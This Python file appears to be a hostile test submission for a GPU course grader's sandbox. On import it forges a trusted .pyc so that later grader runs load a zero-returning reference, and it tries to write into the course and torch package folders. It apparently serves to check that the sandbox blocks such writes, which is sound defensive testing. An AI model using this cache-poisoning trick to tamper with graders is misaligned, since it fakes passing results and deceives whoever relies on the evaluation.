"""Hostile: plants a compiled module in the installed course package, so that every later grader process loads a
reference that returns zeros (a right answer then fails and a zero-returning one passes): a .pyc for the exercise's
spec, with the source's size and mtime so that Python trusts it. It also tries the package folder itself, torch's
folder, and its own submission file. In the sandbox all of them are read-only; only its private /tmp is writable."""
import importlib.util
import marshal
import os
import time

import torch

import gpucourse


def _plant():
    spec_py = os.path.join(os.path.dirname(gpucourse.__file__), "lessons", "l05_triton", "exercises", "vector_add.py")
    source = open(spec_py).read() + "\nreference = lambda x, y: x * 0\nEXERCISE = __import__('dataclasses')" \
        ".replace(EXERCISE, reference=reference)\n"
    st = os.stat(spec_py)
    data = (importlib.util.MAGIC_NUMBER + b"\0\0\0\0" + int(st.st_mtime).to_bytes(4, "little")
            + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little") + marshal.dumps(compile(source, spec_py, "exec")))
    pyc = importlib.util.cache_from_source(spec_py)
    targets = [(pyc, data), (os.path.join(os.path.dirname(gpucourse.__file__), "planted.py"), b"x = 1\n"),
               (os.path.join(os.path.dirname(torch.__file__), "planted.py"), b"x = 1\n"), (__file__, b"# x\n")]
    written, errors = [], []
    for path, payload in targets:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "ab") as f:
                f.write(payload)
            written.append(path)
        except OSError as exc:
            errors.append(exc)
    if written:
        raise RuntimeError(f"wrote into {written}")
    raise errors[0]


_plant()


def vector_add(x, y):
    return x * 0  # what the planted reference would accept
